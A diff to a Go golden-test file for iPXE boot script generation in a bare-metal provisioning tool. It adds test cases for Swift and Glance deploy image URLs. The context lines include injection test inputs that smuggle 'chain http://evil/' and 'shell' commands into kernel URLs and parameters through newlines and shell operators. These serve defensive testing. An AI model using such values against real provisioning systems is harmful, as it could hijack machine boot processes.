@@ -87,6 +87,14 @@ func TestIPXEScriptGoldens(t *testing.T) {
 				InstanceInfo: map[string]any{"kernel_append_params": "%default% console=ttyS0,115200n8"}}},
 		"injection": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
 			DriverInfo: map[string]any{"deploy_kernel": "http://x/k\nshell", "deploy_ramdisk": "http://x/r", "kernel_append_params": "a\r\nchain http://evil/ && shell ; shell"}}},
+		// [pxe]ipxe_use_swift with Glance deploy images: no Glance client
+		// to make the temporary URLs, so the error script says so; URLs
+		// are used as they are.
+		"deploying_swift_glance": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{
+				"deploy_kernel": "http://images.example/ipa.kernel", "deploy_ramdisk": "glance://0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11"}}},
+		"rescuing_swift_urls": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "rescuing", DriverInfo: deployDI}},
 		"unknown_node": {},
 		"spaced_image": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
 			DriverInfo: map[string]any{"deploy_kernel": "http://x/k || shell", "deploy_ramdisk": "http://x/r"}}},
